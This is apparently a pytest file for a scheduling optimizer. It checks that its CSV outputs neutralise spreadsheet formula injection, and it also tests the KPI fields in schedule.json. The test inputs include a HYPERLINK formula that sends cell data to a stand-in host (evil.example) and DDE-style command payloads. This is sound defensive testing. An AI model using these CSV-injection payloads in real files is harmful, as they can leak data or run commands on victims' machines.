"""Writing the schedule's tables: stops.csv, unassigned.csv, kpis_by_technician.csv."""

from __future__ import annotations

import csv
import json
from dataclasses import replace

import pandas as pd
from factories import FAST, at, line_matrix, order, problem, shift, tech

from optimizer import outputs
from optimizer.io.schedule_json import read_json
from optimizer.outputs import safe_cell, safe_frame, write_outputs
from optimizer.report.kpis import with_kpis
from optimizer.solver import solve

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _read(path):
    with open(path, encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def test_safe_cell_quotes_formulas_and_keeps_numbers():
    """Text starting with = + - @ tab or CR gets a leading quote; numbers stay as they are."""
    assert [safe_cell(v) for v in (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                                   "\tx", "\rx")] == \
        ["'" + v for v in (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx")]
    assert [safe_cell(v) for v in (-5, -5.5, "-5", "-73.985000", "+1.5e3", "Frick AG", "a=b",
                                   "", None)] == \
        [-5, -5.5, "-5", "-73.985000", "+1.5e3", "Frick AG", "a=b", "", None]


def test_safe_frame_covers_cells_index_and_headers():
    """A DataFrame written by pandas is neutralised in its cells, index labels and headers."""
    frame = pd.DataFrame({"-x": ["=1+1", "ok"], "n": [-5, 3]}, index=["@base", "b"])
    safe = safe_frame(frame)
    assert list(safe.columns) == ["'-x", "n"] and list(safe.index) == ["'@base", "b"]
    assert safe["'-x"].tolist() == ["'=1+1", "ok"] and safe["n"].tolist() == [-5, 3]


def test_schedule_tables_neutralise_formulas(tmp_path):
    """Order ids, customers, addresses, technician ids and reasons starting like a formula
    are written with a leading quote in stops.csv, unassigned.csv and the KPI table."""
    evil = replace(order("=1+1", 1), customer=FORMULA)
    dropped = replace(order("@drop", 2, required_skills=frozenset({"x"})),
                      customer="+cmd|' /C calc'!A0")
    p = problem([evil, dropped, order("WO-3", 3)], [tech("-T1")], [shift("-T1")])
    schedule = with_kpis(p, solve(p, line_matrix(4), FAST))
    paths = write_outputs(p, schedule, tmp_path)
    stops = _read(paths["stops"])
    first = next(r for r in stops if r["order_id"] == "'=1+1")
    assert first["customer"] == "'" + FORMULA and first["tech_id"] == "'-T1"
    assert {r["order_id"] for r in stops} == {"'=1+1", "WO-3"}
    assert float(first["lat"]) == 47.01 and float(first["wait_min"]) >= 0
    missed = _read(paths["unassigned"])
    assert [(r["order_id"], r["customer"]) for r in missed] == \
        [("'@drop", "'+cmd|' /C calc'!A0")]
    assert [r["tech_id"] for r in _read(paths["technicians"])] == ["'-T1"]


def test_sweep_csv_neutralises_formulas(tmp_path):
    """sweep.csv quotes a formula in a text cell and keeps negative numbers as numbers."""
    rows = [{"run": "=2+2", "technicians": -1.0, "status": "failed", "error": "@boom"}]
    paths = outputs.write_sweep(rows, ["technicians"], tmp_path)
    assert _read(paths["table"]) == [{"run": "'=2+2", "technicians": "-1.0",
                                      "status": "failed", "error": "'@boom"}]


def test_schedule_json_kpis_hold_both_sla_figures_and_old_files_still_read(tmp_path):
    """schedule.json's kpis carry the all-orders SLA figures and the full objective; a file
    written before those fields existed reads back with them as None."""
    p = problem([order("A", 1, sla_due=at("12:00")),
                 order("B", 2, sla_due=at("12:00"), required_skills=frozenset({"gas"}))],
                [tech("t1")], [shift("t1")])
    schedule = with_kpis(p, solve(p, line_matrix(3), FAST))
    path = write_outputs(p, schedule, tmp_path)["json"]
    data = json.loads(path.read_text(encoding="utf-8"))
    kpis = data["kpis"]
    assert (kpis["sla_orders"], kpis["sla_on_time_pct"]) == (1, 100.0)
    assert (kpis["sla_orders_all"], kpis["sla_unassigned"], kpis["sla_on_time_all_pct"]) == \
        (2, 1, 50.0)
    assert kpis["objective_cost"] == round(kpis["cost"] + kpis["drop_penalty_cost"], 2)
    assert read_json(path).kpis == schedule.kpis
    for key in ("sla_orders_all", "sla_unassigned", "sla_on_time_all_pct", "drop_penalty_cost",
                "objective_cost"):
        del kpis[key]
    path.write_text(json.dumps(data), encoding="utf-8")
    old = read_json(path).kpis
    assert old.sla_on_time_pct == 100.0 and old.sla_orders_all is None
    assert old.objective_cost is None
